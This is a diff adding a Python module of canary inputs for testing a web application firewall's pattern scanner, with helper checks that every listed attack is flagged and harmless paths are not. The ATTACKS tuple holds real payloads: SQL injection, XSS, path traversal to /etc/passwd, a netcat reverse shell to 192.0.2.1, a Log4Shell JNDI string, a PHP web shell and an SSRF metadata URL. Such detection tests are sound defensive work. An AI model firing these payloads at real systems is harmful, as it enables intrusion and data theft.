@@ -1,0 +1,45 @@
+"""Attacks that must be found, and what must not: a database that finds nothing looks healthy otherwise. No I/O."""
+
+from collections.abc import Sequence
+
+from gatewall.engine.waf.scanning import OneByOne, Scanner
+
+ATTACKS = (
+    b"1' or '1'='1' -- -",
+    b"1 union all select null,version() from information_schema.tables",
+    b"<script>alert(document.cookie)</script>",
+    b'"><img src=x onerror=alert(1)>',
+    b"../../../../etc/passwd",
+    b";cat /etc/passwd|nc -e /bin/sh 192.0.2.1 4444",
+    b"${jndi:ldap://192.0.2.1/a}",
+    b"<?php system($_GET['c']); ?>",
+    b"{{7*7}}${7*7}",
+    b"http://169.254.169.254/latest/meta-data/",
+)
+"""Each is found by a built-in pattern at least."""
+HARMLESS = (
+    b"/index.html",
+    b"/wiki/Minutes of the 3rd meeting",
+    b"the union of workers, page 2",
+    b"x-client: backup 1.2 (Linux)",
+    b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+)
+"""None is found by a built-in pattern."""
+
+
+def are_told_apart(scanner: Scanner) -> bool:
+    """True if a scanner of the built-in patterns finds every attack, and nothing in the rest."""
+    return all(scanner.scan(each) for each in ATTACKS) and not scanner.scan(b"\n".join(HARMLESS))
+
+
+def agrees(scanner: Scanner, patterns: Sequence[bytes]) -> bool:
+    """True if the scanner finds in the canaries whatever RE2 finds there, and no more in those that are harmless."""
+    plain = OneByOne(patterns)
+    attacks, harmless = b"\n".join(ATTACKS), b"\n".join(HARMLESS)
+    if scanner.scan(b"") or _found(scanner, harmless) != _found(plain, harmless):
+        return False
+    return _found(plain, attacks) <= _found(scanner, attacks)
+
+
+def _found(scanner: Scanner, text: bytes) -> set[int]:
+    return {number for number, _ in scanner.scan(text)}
